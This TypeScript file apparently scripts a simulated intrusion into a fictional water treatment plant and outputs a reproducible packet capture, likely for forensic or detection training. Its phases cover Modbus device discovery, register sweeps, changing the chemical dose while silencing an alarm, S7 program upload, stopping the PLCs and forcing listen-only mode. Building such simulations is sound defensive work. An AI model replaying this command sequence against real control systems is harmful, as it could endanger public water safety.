import { modbus, type ModbusPdu } from '../clients/modbus.ts';
import { s7 } from '../clients/s7.ts';
import { HOSTS } from '../plant/hosts.ts';
import { MillbrookPlant } from '../plant/millbrook.ts';
import { chanceOf } from '../random.ts';
import { ModbusClient } from './modbus-client.ts';
import { Network } from './network.ts';
import { startNormalTraffic } from './normal.ts';
import { remoteDesktop } from './remote-desktop.ts';
import { S7Client } from './s7-client.ts';
import { ms, Schedule, seconds, type Script } from './schedule.ts';

/** Seconds after the start at which each part of the attack begins. */
export const DOSING_ATTACK_PHASES = {
  remoteSession: 45,
  discovery: 60,
  reading: 85,
  manipulation: 115,
  filtration: 150,
  silence: 215,
  end: 300,
} as const;

const SEED = 0x6d696c6c;
/** 03:11 UTC on a Saturday night; the capture holds this time, whenever it is made. */
const START_ISO = '2026-03-14T03:11:00.000Z';
const UNITS_SWEPT = 16;

/** The bytes of the capture: the same each time. */
export function dosingAttackCapture(): Uint8Array<ArrayBuffer> {
  const { network, plant } = playDosingAttack();
  if (plant.filter.cpu.isRunning) throw new Error('the attack did not take its course');
  return network.capture(Date.parse(START_ISO), seconds(DOSING_ATTACK_PHASES.end));
}

/** The scenario played to its end: the wire, and the plant as it was left. */
export function playDosingAttack(): { network: Network; plant: MillbrookPlant } {
  const chance = chanceOf(SEED);
  const schedule = new Schedule();
  const network = new Network(schedule, chance);
  const plant = new MillbrookPlant(SEED);
  startNormalTraffic(network, plant);
  schedule.start(seconds(DOSING_ATTACK_PHASES.remoteSession), remoteDesktop(network));
  schedule.start(seconds(DOSING_ATTACK_PHASES.discovery), attack(network, plant));
  schedule.run(seconds(DOSING_ATTACK_PHASES.end));
  return { network, plant };
}

function* attack(network: Network, plant: MillbrookPlant): Script {
  const from = HOSTS.engineeringStation;
  const dosing = new ModbusClient(network, from, HOSTS.plcDosing, plant.dosing);
  const chlorine = new ModbusClient(network, from, HOSTS.plcChlorine, plant.chlorine);
  yield* discover(network, dosing);
  yield* discover(network, chlorine);
  yield* until(network, DOSING_ATTACK_PHASES.reading);
  yield* readEverything(network, dosing);
  yield* until(network, DOSING_ATTACK_PHASES.manipulation);
  yield* manipulate(network, dosing);
  yield* until(network, DOSING_ATTACK_PHASES.filtration);
  yield* stopFiltration(network, plant);
  yield* until(network, DOSING_ATTACK_PHASES.silence);
  yield* chlorine.ask(modbus.forceListenOnly());
  yield seconds(2);
  yield* chlorine.ask(modbus.readHolding(0, 1));
  yield* chlorine.close();
  yield* dosing.close();
}

function* until(network: Network, second: number): Script {
  yield Math.max(1, seconds(second) - network.schedule.nowUs);
}

/** Phase 1: who is there? Identification, server id, and which units answer. */
function* discover(network: Network, client: ModbusClient): Script {
  yield* client.ask(modbus.identifyDevice());
  yield ms(network.chance.between(300, 700));
  yield* client.ask(modbus.reportServerId());
  yield ms(network.chance.between(300, 700));
  for (let unit = 1; unit <= UNITS_SWEPT; unit++) {
    yield* client.ask(modbus.readHolding(0, 1), unit);
    yield ms(network.chance.between(90, 160));
  }
}

/** Phase 2: every table in steps, past the end of each, so that refusals come back. */
function* readEverything(network: Network, client: ModbusClient): Script {
  const tables: readonly ((from: number, count: number) => ModbusPdu)[] = [
    modbus.readHolding,
    modbus.readInput,
    modbus.readCoils,
    modbus.readDiscreteInputs,
  ];
  for (const read of tables) {
    yield* client.ask(read(0, 2));
    yield* client.ask(read(2, 2));
    for (let from = 4; from < 104; from += 10) {
      yield* client.ask(read(from, 10));
      yield ms(network.chance.between(120, 260));
    }
  }
}

/** Phase 3: first blind the people, then take the dose out of the controller's hands. */
function* manipulate(network: Network, client: ModbusClient): Script {
  const writes = [
    modbus.writeRegister(3, 1_400),
    modbus.writeCoil(1, false),
    modbus.writeRegister(2, 1),
    modbus.writeRegister(1, 11_100),
    modbus.writeRegister(0, 1_000),
  ];
  for (const write of writes) {
    yield* client.ask(write);
    yield seconds(network.chance.between(1.6, 2.8));
  }
  yield* client.ask(modbus.readHolding(0, 4));
}

/** Phase 4: look at the filter's CPU, take its program, stop both CPUs; one refuses. */
function* stopFiltration(network: Network, plant: MillbrookPlant): Script {
  const from = HOSTS.engineeringStation;
  const filter = new S7Client(network, from, HOSTS.plcFilter, plant.filter);
  const questions = [
    (reference: number) => s7.readStatusList(reference, 0x0011),
    (reference: number) => s7.readStatusList(reference, 0x001c),
    (reference: number) => s7.readStatusList(reference, 0x0424),
    s7.countBlocks,
    (reference: number) => s7.listBlocks(reference, '08'),
    (reference: number) => s7.listBlocks(reference, '0A'),
  ];
  for (const question of questions) {
    yield* filter.ask(question);
    yield ms(network.chance.between(700, 1_400));
  }
  yield* upload(filter);
  yield seconds(4);
  const pumps = new S7Client(network, from, HOSTS.plcPumps, plant.pumps);
  yield* pumps.ask((reference) => s7.readStatusList(reference, 0x0011));
  yield seconds(1.5);
  yield* pumps.ask(s7.stop);
  yield seconds(3);
  yield* pumps.close();
  yield* filter.ask(s7.stop);
  yield seconds(1.2);
  yield* filter.ask((reference) => s7.readStatusList(reference, 0x0424));
  yield* filter.close();
}

/** Takes organisation block 1, part by part, until the CPU says that it was the last. */
function* upload(client: S7Client): Script {
  yield* client.ask((reference) => s7.startUpload(reference, '08', 1));
  for (let parts = 0; parts < UPLOAD_PARTS_MAX; parts++) {
    const [answer] = yield* client.ask(s7.upload);
    // Parameter of the answer: service, then 1 while more follows. It stands behind 19 bytes.
    if (answer?.[20] !== 1) break;
    yield ms(12);
  }
  yield* client.ask(s7.endUpload);
}
const UPLOAD_PARTS_MAX = 64;
